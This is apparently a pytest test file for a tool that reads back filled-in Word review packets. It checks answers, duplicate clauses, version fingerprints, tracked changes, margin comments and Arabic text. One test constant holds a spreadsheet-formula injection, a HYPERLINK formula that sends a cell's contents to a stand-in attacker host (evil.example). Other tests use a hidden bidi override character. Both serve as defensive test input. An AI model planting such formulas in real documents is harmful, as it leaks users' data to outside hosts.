"""A returned Word file: what is in it is read letter by letter, and what is wrong with it is said at once."""

import copy

import pytest
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from files.returned import read_back
from rubrics.reviews import ReviewEntry
from tests.files.packets import (
    ARABIC,
    EDITED,
    TEXT,
    a_charter,
    a_packet,
    card,
    delete,
    fill,
    known,
    opened,
    returned,
    said,
    saved,
)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"see")\n+1+1\n@SUM(A1)\n\'=quoted'
EACH_ONCE = "every clause and scenario once; whatever was said of it before stays"


def test_an_empty_packet_says_nothing_and_has_no_fault() -> None:
    found = returned(opened(a_packet()))
    assert (found.entries, found.problems, found.notes) == ((), (), ())
    assert found.charter_hash == a_charter().hash
    assert found.version == 1


def test_a_file_with_a_clause_deleted_formulas_and_an_unknown_number_loses_nothing_else() -> None:
    """The acceptance of the review packet."""
    document = opened(a_packet())
    fill(document, "Clause 1", agreement="I agree", classification="Settled", source_checked="yes", comment=FORMULA)
    fill(document, "Clause 2", agreement="I agree, with notes", comment="How much?", proposed="Salt may be in it.")
    fill(document, "Clause 4", agreement="I disagree", comment="Not all of them.")
    fill(document, "Scenario SC-1", agreement="Outside my competence", classification="Open choice")
    fill(document, "The charter as a whole", comment="Short and good.")
    delete(document, "Clause 3")
    card(document, "Clause 4").rows[0].cells[1].text = "44"
    found = returned(document)
    assert found.problems == (
        "back.docx, table 4: found 'Clause 44', which says: Do you agree? I disagree; Comment Not all of them.; "
        "allowed: clauses 1, 2, 3, 4; scenarios SC-1",
        f"back.docx: found nothing on clause 3; allowed: {EACH_ONCE}",
        f"back.docx: found nothing on clause 4; allowed: {EACH_ONCE}",
    )
    assert found.entries == (
        ReviewEntry("1", "settled", "agree", FORMULA, "", True),
        ReviewEntry("2", None, "agree_with_notes", "How much?", "Salt may be in it."),
        ReviewEntry("", comment="Short and good."),
        ReviewEntry("SC-1", "open_choice", "outside_competence", part="scenario"),
    )
    assert found.notes == ()


def test_a_prefilled_packet_comes_back_as_it_was() -> None:
    entries = (
        ReviewEntry("2", "settled", "disagree", FORMULA, "Two\nlines", None),
        ReviewEntry("1", "open_choice", "agree", "", "", False),
        ReviewEntry("SC-1", comment="بارك الله فيكم", part="scenario"),
    )
    found = returned(opened(a_packet(entries={one.subject: one for one in entries})))
    assert set(found.entries) == set(entries)
    assert found.problems == ()


def test_a_word_that_is_no_answer_is_said_and_the_rest_of_the_clause_stays() -> None:
    document = opened(a_packet())
    fill(
        document, "Clause 1", agreement="mostly", classification="holy", source_checked="perhaps", comment="See below."
    )
    found = returned(document)
    assert found.problems == (
        "back.docx, table 2 (Clause 1), Have you looked up the sources?: found 'perhaps'; allowed: 'yes', 'no', or "
        "nothing",
        "back.docx, table 2 (Clause 1), How firmly is it held?: found 'holy'; allowed: 'Settled', 'Open choice', or "
        "nothing",
        "back.docx, table 2 (Clause 1), Do you agree?: found 'mostly'; allowed: 'I agree', 'I agree, with notes', "
        "'I disagree', 'Outside my competence', or nothing",
    )
    assert found.entries == (ReviewEntry("1", comment="See below."),)


@pytest.mark.parametrize(
    "words", ["agree with notes", "AGREE, with notes.", "agree_with_notes", " I agree – with notes "]
)
def test_an_answer_may_be_typed(words: str) -> None:
    document = opened(a_packet())
    fill(document, "Clause 2", agreement=words)
    assert returned(document).entries == (ReviewEntry("2", agreement="agree_with_notes"),)


def test_a_clause_that_stands_twice_with_different_answers_has_none() -> None:
    document = opened(a_packet())
    fill(document, "Clause 2", agreement="I agree")
    table = card(document, "Clause 2")._tbl
    table.addnext(copy.deepcopy(table))
    same = returned(document)
    assert same.problems == ("back.docx, table 3 and table 4: found clause 2 twice; allowed: each once",)
    assert same.entries == (ReviewEntry("2", agreement="agree"),)
    fill(document, "Clause 2", agreement="I disagree")
    differing = returned(document)
    assert differing.problems == (
        "back.docx, table 3 and table 4: found clause 2 twice; they differ, so neither was taken in; "
        "allowed: each once",
    )
    assert differing.entries == ()


def test_an_outdated_version_is_said_with_the_clauses_that_have_changed() -> None:
    document = opened(a_packet())
    fill(document, "Clause 1", agreement="I agree")
    fill(document, "Clause 2", agreement="I agree")
    found = returned(document, TEXT, EDITED)
    assert found.problems == (
        "back.docx: found answers to version 1; version 2 is in force by now. The text has changed in clause 2: the "
        "words there are kept, and what was decided is to be decided anew. All other answers can be taken in",
    )
    assert set(said(found)) == {"1", "2"}
    assert found.charter_hash == a_charter(TEXT).hash


def test_a_text_that_came_back_is_not_outdated() -> None:
    assert returned(opened(a_packet()), TEXT, EDITED, TEXT).problems == ()


def test_the_fingerprint_of_another_text_takes_nothing_in() -> None:
    document = opened(a_packet("# Stones\n\n1. Stones are hard.\n"))
    fill(document, "Clause 1", agreement="I agree")
    found = returned(document)
    assert (found.entries, found.charter_hash) == ((), "")
    (problem,) = found.problems
    assert problem.startswith("back.docx: found the fingerprint '")
    assert (
        f"which is of another text; allowed: the fingerprint of this charter: {a_charter().hash} (version 1)" in problem
    )


def test_without_its_line_the_fingerprint_is_read_from_the_file_and_without_both_nothing_is_guessed() -> None:
    document = opened(a_packet())
    fill(document, "Clause 2", agreement="I agree")
    delete(document, "Charter Bread")
    assert returned(document).entries == (ReviewEntry("2", agreement="agree"),)
    document.core_properties.identifier = ""
    found = returned(document)
    assert found.entries == ()
    assert "no fingerprint, so it is not known which text the answers belong to" in found.problems[0]


def test_changes_that_were_tracked_count_as_they_stand() -> None:
    document = opened(a_packet())
    fill(document, "Clause 2", agreement="I agree", comment="Much")
    cell = card(document, "Clause 2").rows[4].cells[1]
    line = cell.paragraphs[0]
    inserted, deleted = OxmlElement("w:ins"), OxmlElement("w:del")
    inserted.append(line.add_run(" salt")._r)
    struck = line.add_run(" sugar")._r
    struck.find(qn("w:t")).tag = qn("w:delText")
    deleted.append(struck)
    line._p.append(inserted)
    line._p.append(deleted)
    assert returned(document).entries == (ReviewEntry("2", agreement="agree", comment="Much salt"),)


def test_comments_in_the_margin_join_the_comment_of_their_clause() -> None:
    document = opened(a_packet())
    fill(document, "Clause 2", comment="First.")
    table = card(document, "Clause 2")
    document.add_comment(table.rows[1].cells[1].paragraphs[0].runs, text="=1+1 in the margin", author="A", initials="A")
    document.add_comment(document.paragraphs[0].runs, text="On the title", author="A", initials="A")
    found = returned(document)
    assert found.entries == (ReviewEntry("2", comment="First.\n\n=1+1 in the margin"),)
    assert found.notes == ("back.docx, table 3 (Clause 2): what stands in the margin was added to the comment.",)
    assert found.problems == (
        "back.docx, in the margin: found words outside the fields: 'On the title'; allowed: words in the field they "
        "belong to",
    )


def test_a_change_in_the_text_itself_is_taken_for_other_wording() -> None:
    document = opened(a_packet())
    card(document, "Clause 2").rows[1].cells[1].text = "Salt may be in it."
    card(document, "Clause 4").rows[1].cells[1].text = "Ovens are warm."
    fill(document, "Clause 4", proposed="Ovens may be hot.")
    found = returned(document)
    assert found.entries == (
        ReviewEntry("2", proposed="Salt may be in it."),
        ReviewEntry("4", proposed="Ovens may be hot."),
    )
    assert found.notes == (
        "back.docx, table 3 (Clause 2), Text: it was changed in the file, and taken for the wording that you propose.",
    )
    assert found.problems == (
        "back.docx, table 5 (Clause 4), Text: found another text: 'Ovens are warm.'; allowed: the text as it is; "
        "changes belong into “Other wording that you propose”",
    )


def test_words_outside_the_fields_are_said() -> None:
    document = opened(a_packet())
    document.add_paragraph("My general remark.")
    row = card(document, "Clause 2").add_row()  # type: ignore[no-untyped-call]
    row.cells[0].text, row.cells[1].text = "Remarks", "In a row of my own"
    table = document.add_table(1, 2)
    table.rows[0].cells[0].text = "Mine"
    found = returned(document)
    assert found.problems == (
        "back.docx, table 8: found a table that begins with no clause number: 'Mine'; allowed: Clause and its number "
        "in the first row",
        "back.docx, table 3 (Clause 2): found a row 'Remarks' with 'In a row of my own'; allowed: the packet's own "
        "fields: Do you agree?, How firmly is it held?, Comment, Other wording that you propose",
        "back.docx, after Scenario SC-1: found words outside the fields: 'My general remark.'; allowed: words in the "
        "field they belong to",
    )


def test_words_that_cannot_be_kept_are_said_and_the_answer_stays() -> None:
    document = opened(a_packet())
    fill(document, "Clause 2", agreement="I disagree", comment="x" * 5001, proposed="read \u202ebackwards")
    found = returned(document)
    assert found.problems == (
        "back.docx, table 3 (Clause 2), Comment: found 5,001 characters; allowed: at most 5,000; nothing of it "
        "was taken in",
        "back.docx, table 3 (Clause 2), Other wording that you propose: found a hidden character (U+202E); allowed: "
        "visible text; please retype it",
    )
    assert found.entries == (ReviewEntry("2", agreement="disagree"),)


def test_an_arabic_charter_runs_from_right_to_left_and_comes_back() -> None:
    document = opened(a_packet(ARABIC, scenarios=()))
    table = card(document, "Clause 1")
    line = table.rows[1].cells[1].paragraphs[0]
    assert line.text == "العدل واجب على الناس."
    assert line._p.pPr is not None
    assert line._p.pPr.find(qn("w:bidi")) is not None
    assert line.runs[0].font.rtl
    fill(document, "Clause 1", agreement="I agree", comment="جزاكم الله خيرًا")
    card(document, "Clause 1").rows[0].cells[1].text = "١"
    found = read_back(saved(document), "back.docx", known(ARABIC))
    assert found.entries == (ReviewEntry("1", agreement="agree", comment="جزاكم الله خيرًا"),)
